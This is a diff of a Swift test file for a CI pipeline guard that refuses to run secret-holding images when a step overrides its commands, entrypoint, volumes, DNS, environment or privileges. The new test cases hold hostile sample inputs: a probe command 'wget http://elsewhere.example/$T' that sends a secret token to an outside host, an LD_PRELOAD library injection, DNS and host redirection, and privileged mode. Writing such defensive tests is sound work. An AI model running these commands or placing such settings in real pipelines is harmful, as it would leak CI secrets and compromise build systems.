@@ -26,19 +26,35 @@ import Testing
         ])
     func anotherImage(pattern: String, image: String) {
         #expect(
-            SecretImages([pattern]).refusal(of: Step(name: "s", image: image)) == "the step runs \(image)")
+            SecretImages([pattern]).refusal(of: Step(name: "s", image: image))?.hasPrefix("the step runs \(image);")
+                == true)
     }
 
     @Test func anImageThatThePipelineHasDoSomethingElse() {
         let images = SecretImages(["plugins/docker"])
-        var steps = Array(repeating: Step(name: "s", image: "plugins/docker"), count: 4)
+        var steps = Array(repeating: Step(name: "s", image: "plugins/docker"), count: 12)
         steps[0].commands = ["env"]
         steps[1].command = ["env"]
         steps[2].entrypoint = ["env"]
         steps[3].mounts = [Mount(name: "tools", path: "/bin")]
-        for (step, word) in zip(steps, ["commands", "command", "entrypoint", "volumes"]) {
+        steps[4].ready = Probe(command: ["sh", "-c", "wget http://elsewhere.example/$T"])
+        steps[5].environment = ["LD_PRELOAD": "./x.so", "T": .secret("t")]
+        steps[6].dns = ["192.0.2.1"]
+        steps[7].extraHosts = ["registry.example:192.0.2.1"]
+        steps[8].networkMode = "host"
+        steps[9].user = "1000"
+        steps[10].workingDirectory = "x"
+        steps[11].privileged = true
+        let words = [
+            "commands", "command", "entrypoint", "volumes", "ready", "environment", "dns", "extra_hosts",
+            "network_mode", "user", "working_dir", "privileged",
+        ]
+        for (step, word) in zip(steps, words) {
             #expect(images.refusal(of: step)?.contains("with “\(word)” of the pipeline") == true)
         }
+        let plain = Step(
+            name: "s", image: "plugins/docker", environment: ["T": .secret("t")])
+        #expect(images.refusal(of: plain) == nil)
         #expect(images.refusal(of: Step(name: "s", commands: ["env"])) == "the step runs no image")
     }
 }
